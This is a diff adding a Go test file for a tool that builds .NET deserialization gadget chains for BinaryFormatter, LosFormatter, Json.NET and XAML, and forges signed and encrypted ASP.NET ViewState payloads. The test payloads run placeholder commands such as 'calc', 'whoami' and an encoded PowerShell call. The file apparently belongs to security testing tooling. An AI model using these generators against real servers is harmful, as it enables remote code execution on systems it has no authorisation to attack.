@@ -0,0 +1,101 @@
+package dotnet
+
+import (
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestGenerateGadget_BinaryFormatter(t *testing.T) {
+	for _, gadget := range []string{string(GadgetTypeConfuseDelegate), string(GadgetTextFormattingRunProperties), string(GadgetWindowsIdentity)} {
+		data, err := GenerateGadget(gadget, "BinaryFormatter", "calc")
+		require.NoError(t, err, gadget)
+		require.Equal(t, recordSerializedStreamHeader, data[0])
+		require.Equal(t, recordMessageEnd, data[len(data)-1])
+
+		osf, err := GenerateGadget(gadget, "ObjectStateFormatter", "calc")
+		require.NoError(t, err)
+		require.True(t, bytes.HasPrefix(osf, []byte{0xff, 0x01, 0x32}))
+		require.Equal(t, data, osf[len(osf)-len(data):])
+
+		los, err := GenerateGadget(gadget, "LosFormatter", "calc")
+		require.NoError(t, err)
+		require.Equal(t, base64.StdEncoding.EncodeToString(osf), string(los))
+	}
+
+	data, err := GenerateGadget(string(GadgetTypeConfuseDelegate), "BinaryFormatter", "whoami > C:\\1.txt")
+	require.NoError(t, err)
+	require.Contains(t, string(data), "/c whoami > C:\\1.txt")
+	require.Contains(t, string(data), "System.Diagnostics.Process")
+
+	data, err = GenerateGadget(string(GadgetTypeConfuseDelegate), "BinaryFormatter", "powershell -enc AAAA", WithRawCommand(true))
+	require.NoError(t, err)
+	require.Contains(t, string(data), "-enc AAAA")
+	require.NotContains(t, string(data), "/c powershell")
+
+	_, err = GenerateGadget(string(GadgetObjectDataProvider), "BinaryFormatter", "calc")
+	require.Error(t, err)
+	_, err = GenerateGadget("NotExist", "BinaryFormatter", "calc")
+	require.Error(t, err)
+}
+
+func TestGenerateGadget_JsonNet(t *testing.T) {
+	for _, gadget := range []string{string(GadgetObjectDataProvider), string(GadgetWindowsIdentity)} {
+		data, err := GenerateGadget(gadget, "Json.Net", "calc")
+		require.NoError(t, err)
+		var m map[string]any
+		require.NoError(t, json.Unmarshal(data, &m), string(data))
+		// Json.NET 要求 $type 为第一个字段
+		require.True(t, bytes.HasPrefix(data, []byte(`{"$type":`)), string(data))
+	}
+
+	xaml, err := GenerateGadget(string(GadgetObjectDataProvider), "Xaml", "calc")
+	require.NoError(t, err)
+	require.Contains(t, string(xaml), "ObjectDataProvider")
+	require.Contains(t, string(xaml), "/c calc")
+}
+
+func TestViewStatePagePath(t *testing.T) {
+	require.Equal(t, "/", templateSourceDirectory("/default.aspx"))
+	require.Equal(t, "default_aspx", pageTypeName("/", "/"))
+	require.Equal(t, "/app/admin", templateSourceDirectory("/app/admin/login.aspx"))
+	require.Equal(t, "admin_login_aspx", pageTypeName("/app/admin/login.aspx", "/app"))
+}
+
+func TestViewState_RoundTrip(t *testing.T) {
+	payload, err := GenerateGadget(string(GadgetTypeConfuseDelegate), "LosFormatter", "calc")
+	require.NoError(t, err)
+	raw, _ := base64.StdEncoding.DecodeString(string(payload))
+
+	validationKey := "B4A1C6D6E8F0A2B4C6D8E0F2A4B6C8D0E2F4A6B8C0D2E4F6A8B0C2D4E6F8A0B2C4D6E8F0A2B4C6D8E0F2A4B6C8D0E2F4A6B8C0D2E4F6A8B0C2D4E6F8A0B2C4"
+	decryptionKey := "0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF"
+	cases := [][]ViewStateOption{
+		{WithLegacy(true), WithGenerator("CA0B0334"), WithValidationAlg("SHA1")},
+		{WithLegacy(true), WithGenerator("CA0B0334"), WithValidationAlg("MD5")},
+		{WithLegacy(true), WithGenerator("CA0B0334"), WithValidationAlg("HMACSHA256"), WithViewStateUserKey("user")},
+		{WithLegacy(true), WithGenerator("CA0B0334"), WithValidationAlg("SHA1"), WithDecryptionAlg("3DES"), WithDecryptionKey(decryptionKey[:48]), WithLegacyEncrypt(true)},
+		{WithTargetPath("/app/default.aspx"), WithAppPath("/app"), WithDecryptionKey(decryptionKey)},
+		{WithTargetPath("/default.aspx"), WithValidationAlg("SHA1"), WithDecryptionAlg("DES"), WithDecryptionKey(decryptionKey[:16]), WithViewStateUserKey("user")},
+	}
+	for i, opts := range cases {
+		opts = append(opts, WithValidationKey(validationKey))
+		viewState, err := GenerateViewState(payload, opts...)
+		require.NoError(t, err, i)
+		decoded, err := DecodeViewState(viewState, opts...)
+		require.NoError(t, err, i)
+		require.Equal(t, raw, decoded, i)
+
+		_, err = DecodeViewState(viewState, append(opts, WithValidationKey(validationKey[2:]+"00"))...)
+		require.Error(t, err, i)
+	}
+
+	_, err = GenerateViewState(payload, WithValidationKey(validationKey), WithDecryptionKey(decryptionKey))
+	require.Error(t, err)
+	_, err = GenerateViewState(payload, WithValidationKey(validationKey), WithLegacy(true))
+	require.Error(t, err)
+	_, err = GenerateViewState(payload, WithValidationKey("xx"), WithLegacy(true), WithGenerator("CA0B0334"))
+	require.Error(t, err)
+}